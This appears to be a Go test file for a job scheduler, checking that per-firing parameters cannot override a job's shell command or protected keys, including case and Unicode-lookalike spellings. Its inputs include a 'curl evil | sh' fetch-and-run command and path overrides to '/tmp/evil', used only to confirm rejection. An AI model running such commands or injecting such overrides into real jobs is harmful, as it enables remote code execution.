package job

import (
	"errors"
	"strings"
	"testing"
)

func TestAFiringNeverChangesTheCommandNorWhatIsNotOverridable(t *testing.T) {
	spec := Spec{Name: "etl", Handler: HandlerShell, Params: map[string]string{"command": "run-etl", "date": "today", "mode": "full"},
		Overridable: []string{"date"}}
	for _, tc := range []struct {
		name   string
		firing map[string]string
		want   string // "" for success
	}{
		{"nothing", nil, ""},
		{"an overridable key", map[string]string{"date": "2026-12-01"}, ""},
		{"a new key", map[string]string{"region": "eu"}, ""},
		{"the command", map[string]string{"command": "curl evil | sh"}, "params.command"},
		{"a key not overridable", map[string]string{"mode": "delta"}, "params.mode"},
		{"a key not overridable, in another case", map[string]string{"MODE": "delta"}, "params.MODE"},
		{"the command, in another case", map[string]string{"Command": "id"}, "params.Command"},
		{"too long a value", map[string]string{"region": strings.Repeat("x", MaxParamValue+1)}, "params.region"},
		{"an empty key", map[string]string{"": "x"}, "key"},
	} {
		got, err := spec.MergeParams(tc.firing)
		if tc.want == "" {
			if err != nil {
				t.Errorf("%s: %v", tc.name, err)
				continue
			}
			if got["command"] != "run-etl" {
				t.Errorf("%s: command became %q", tc.name, got["command"])
			}
			for k, v := range tc.firing {
				if got[k] != v {
					t.Errorf("%s: %s = %q, want %q", tc.name, k, got[k], v)
				}
			}
			continue
		}
		if !errors.Is(err, ErrParams) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want ErrParams naming %q", tc.name, err, tc.want)
		}
	}
	if spec.Params["date"] != "today" {
		t.Fatal("MergeParams changed the job's own parameters")
	}
}

func TestTheCommandCannotBeDeclaredOverridable(t *testing.T) {
	spec := Spec{Name: "etl", Schedule: "@daily", Handler: HandlerShell, Params: map[string]string{"command": "x"}, Overridable: []string{"command"}}
	if err := spec.Validate(); err == nil || !strings.Contains(err.Error(), "overridable: command") {
		t.Fatalf("err = %v, want overridable: command refused", err)
	}
	spec.Overridable, spec.Schedule = nil, strings.Repeat("*", MaxScheduleLen+1)
	if err := spec.Validate(); err == nil || !strings.Contains(err.Error(), "schedule of") {
		t.Fatalf("err = %v, want the long schedule refused", err)
	}
}

// A firing cannot reach a parameter the job keeps by spelling its key so that it compares unequal but
// names the same variable (a dotless i upper-cases to I), nor a batch run's own parameters.
func TestAFiringCannotReachAKeptParameterByItsSpelling(t *testing.T) {
	s := Spec{Name: "j", Params: map[string]string{"command": "run $CLOVER_PARAM_SCRIPT_DIR", "script_dir": "/opt/safe", "mode": "safe"}, Overridable: []string{"mode"}}
	for _, k := range []string{"scr\u0131pt_d\u0131r", "SCRIPT_DIR", "Script_Dir", "comm\u0061nd", "batch_pre", "BATCH_Post", "b\u0061tch"} {
		if _, err := s.MergeParams(map[string]string{k: "/tmp/evil"}); err == nil {
			t.Errorf("params.%s was accepted", k)
		}
	}
	merged, err := s.MergeParams(map[string]string{"MODE": "fast", "batch_size": "10"})
	if err != nil {
		t.Fatal(err)
	}
	if merged["MODE"] != "fast" || merged["mode"] != "" || merged["batch_size"] != "10" {
		t.Errorf("merged %v: want MODE=fast replacing mode, and batch_size (not a batch run's) kept", merged)
	}
}
